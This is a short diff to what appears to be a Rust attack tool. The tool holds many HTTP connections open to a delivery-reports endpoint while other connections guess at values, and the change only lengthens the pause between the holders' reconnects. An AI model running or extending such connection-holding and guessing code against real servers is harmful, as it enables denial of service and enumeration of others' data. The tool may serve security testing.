@@ -36,6 +36,9 @@ const SENDERS: u64 = 16;
 /// Connections that guess at a time.
 const GUESSERS: u64 = 8;
 
+/// How long who held a connection waits before making another.
+const HOLDER_PAUSE: Duration = Duration::from_millis(500);
+
 #[tokio::main(flavor = "multi_thread", worker_threads = 2)]
 async fn main() {
     let number = |name: &str, default: u64| {
@@ -148,7 +151,7 @@ async fn attack(to: SocketAddr, held: u64, guesses: u64) -> JoinSet<()> {
 async fn hold(to: SocketAddr, source: [u8; 4]) {
     loop {
         let Some(mut stream) = connect(to, source).await else {
-            sleep(Duration::from_millis(100)).await;
+            sleep(HOLDER_PAUSE).await;
             continue;
         };
         let mut line = "GET /delivery-reports/x?mess_id=1 HTTP/1.1\r\n";
@@ -160,7 +163,7 @@ async fn hold(to: SocketAddr, source: [u8; 4]) {
             }
         }
         // However fast it is closed, this holder does not use up the machine.
-        sleep(Duration::from_millis(100)).await;
+        sleep(HOLDER_PAUSE).await;
     }
 }
 
